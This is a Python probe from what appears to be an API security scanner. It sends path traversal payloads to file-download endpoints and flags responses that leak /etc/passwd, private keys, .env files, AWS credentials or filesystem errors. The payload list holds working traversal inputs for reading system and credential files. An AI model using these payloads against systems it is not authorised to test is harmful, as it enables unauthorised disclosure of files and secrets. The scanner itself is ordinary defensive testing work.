"""Path traversal probe: file-ish parameters fed with escape sequences."""

import re

from apisec.auth.helper import auth_headers
from apisec.probes.base import BaseProbe, ProbeContext, error_leak, is_absent, request_evidence
from apisec.transport import send

# (regex, description) of content that should never come back
FILE_SIGNATURES = [
    (r"root:.*:0:0:", "/etc/passwd content"),
    (r"\[fonts\]", "win.ini [fonts] section"),
    (r"\[boot loader\]", "boot.ini content"),
    (r"PATH=.*:", "/proc/self/environ leaked"),
    (r"-----BEGIN (RSA |OPENSSH )?PRIVATE KEY-----", "private key leaked"),
    (r"\[core\]\s*repositoryformatversion", ".git/config leaked"),
    (r"aws_secret_access_key", "AWS credentials leaked"),
    (r"Index of /", "directory listing exposed"),
]

TRAVERSAL_ERRORS = [
    r"no such file or directory",
    r"failed to open stream",
    r"open_basedir restriction",
    r"filenotfoundexception",
    r"enoent",
    r"system\.io\.",
]

TRAVERSAL_PAYLOADS = [
    ("basic_unix", "../../../etc/passwd"),
    ("deep_unix", "../../../../../../../../etc/passwd"),
    ("basic_windows", "..\\..\\..\\windows\\win.ini"),
    ("mixed_slashes", "../..\\../etc/passwd"),
    ("url_encoded", "..%2F..%2F..%2Fetc%2Fpasswd"),
    ("double_encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong_utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("null_byte", "../../../../etc/passwd%00.pdf"),
    ("absolute_unix", "/etc/passwd"),
    ("filter_bypass", "....//....//....//etc/passwd"),
    ("proc_environ", "/proc/self/environ"),
    ("env_file", "../../../.env"),
    ("git_config", "../../../.git/config"),
]

FILE_TARGETS = [
    ("/api/files", "path"),
    ("/api/download", "file"),
    ("/download", "file"),
    ("/api/documents", "name"),
    ("/api/statements", "file"),
    ("/static", "file"),
]

_SIGNATURES = [(re.compile(p, re.I), d) for p, d in FILE_SIGNATURES]
_ERRORS = [re.compile(p, re.I) for p in TRAVERSAL_ERRORS]


def traversal_issue(text: str) -> str | None:
    for pat, desc in _SIGNATURES:
        if pat.search(text):
            return desc
    for pat in _ERRORS:
        if pat.search(text):
            return f"filesystem error leaked ({pat.pattern})"
    return None


class PathTraversalProbe(BaseProbe):
    name = "path-traversal"
    title = "Input: path traversal in file parameters"
    category = "API8_INJECTION"

    async def run(self, ctx: ProbeContext) -> None:
        headers = auth_headers(await ctx.auth.ensure_session())
        findings: list[dict] = []
        tested: list[str] = []

        for path, param in FILE_TARGETS:
            baseline = await send(ctx.client, "GET", path, params={param: "report.pdf"}, headers=headers)
            if is_absent(baseline):
                continue
            tested.append(f"{path}?{param}=")
            for label, payload in TRAVERSAL_PAYLOADS:
                resp = await send(ctx.client, "GET", path, params={param: payload}, headers=headers)
                if resp.failed:
                    continue
                issue = traversal_issue(resp.text) or error_leak(resp)
                if issue:
                    findings.append(request_evidence(resp, parameter=param, payload=label, issue=issue))

        if not tested:
            ctx.reporter.report_skip("no file-serving endpoint found")
        elif findings:
            ctx.reporter.report_vulnerability(self.category, {"tested": tested, "findings": findings}, [
                "Resolve requested paths and verify they stay inside the allowed directory",
                "Map user input to file identifiers instead of file names",
            ])
        else:
            ctx.reporter.report_pass(
                f"{len(TRAVERSAL_PAYLOADS)} traversal payloads rejected on {', '.join(tested)}",
                self.category,
            )
